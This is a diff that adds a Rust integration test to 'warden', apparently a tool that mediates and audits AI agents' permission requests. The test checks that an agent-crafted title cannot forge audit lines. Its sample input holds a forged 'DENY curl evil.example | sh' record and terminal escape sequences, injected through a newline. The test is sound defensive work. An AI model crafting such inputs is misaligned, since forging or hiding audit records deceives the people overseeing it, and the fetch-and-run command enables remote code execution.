@@ -297,3 +297,66 @@ async fn ctrl_c_cancels_the_task_being_streamed_and_exits_5() {
 async fn sigterm_cancels_the_task_being_streamed_and_exits_5() {
     a_signal_cancels_the_task(nix::sys::signal::Signal::SIGTERM).await;
 }
+
+/// Issue 24, case 6: an agent's permission title holding a newline, a forged record and terminal
+/// escape sequences. Before, the ALLOWed request showed in `warden send` and `warden audit tail`
+/// as an innocent line plus a forged `DENY` line, and the escapes reached the terminal raw. Now
+/// each decision is one line, with what the agent wrote shown as escapes.
+#[tokio::test]
+async fn an_agents_crafted_title_cannot_forge_a_line_or_reach_the_terminal_raw() {
+    let d = deployment_for_send().await;
+    let forged = "[policy] DENY curl evil.example | sh (execute): refused [rule floor.forged]";
+    // The title, as the agent sends it: `ls`, a newline, a forged record, a cursor-up and
+    // erase-line, an OSC window title, a bidi override and a C1 CSI.
+    let title = format!("ls\n{forged}\u{1b}[1A\u{1b}[2K\u{1b}]0;pwned\u{7}\u{202e}\u{9b}2J");
+    let scenario = serde_json::json!({"steps": [
+        {"type": "tool", "kind": "read", "path": "notes.txt", "title": title, "ask": true},
+        {"type": "message", "text": "done"}]})
+    .to_string();
+    let out = run_with_deadline(&mut send_command(&d, &scenario), Duration::from_secs(60))
+        .await
+        .unwrap();
+    let shown = String::from_utf8_lossy(&out.stdout).to_string();
+    assert!(
+        shown.contains("[policy] ALLOW ls\\n[policy] DENY curl"),
+        "{shown}"
+    );
+    assert!(
+        !shown.lines().any(|l| l.starts_with("[policy] DENY")),
+        "a forged line: {shown}"
+    );
+    for c in ['\u{1b}', '\u{7}', '\u{202e}', '\u{9b}'] {
+        assert!(!shown.contains(c), "{c:?} reached the terminal: {shown:?}");
+    }
+    assert!(
+        shown.contains(r"\x1b[1A\x1b[2K\x1b]0;pwned\x07\u{202e}\x9b2J"),
+        "{shown}"
+    );
+
+    let context = shown
+        .lines()
+        .find_map(|l| l.split("(context ").nth(1))
+        .map(|c| c.trim_end_matches(')').to_string())
+        .expect("the context is shown");
+    let (ok, tail, err) = warden(&d, &["audit", "tail", "--context", &context]).await;
+    assert!(ok, "{err}");
+    assert_eq!(tail.lines().count(), 1, "one decision, one line: {tail}");
+    assert!(tail.contains("ALLOW"), "{tail}");
+    assert!(
+        !tail.contains('\u{1b}') && !tail.contains('\u{202e}'),
+        "{tail:?}"
+    );
+    let decision = tail
+        .split("decision=")
+        .nth(1)
+        .and_then(|r| r.split_whitespace().next())
+        .expect("a decision id")
+        .to_string();
+    let (ok, detail, err) = warden(&d, &["audit", "show", &decision]).await;
+    assert!(ok, "{err}");
+    assert!(
+        !detail.lines().any(|l| l.starts_with("[policy]")),
+        "{detail}"
+    );
+    assert!(!detail.contains('\u{1b}'), "{detail:?}");
+}
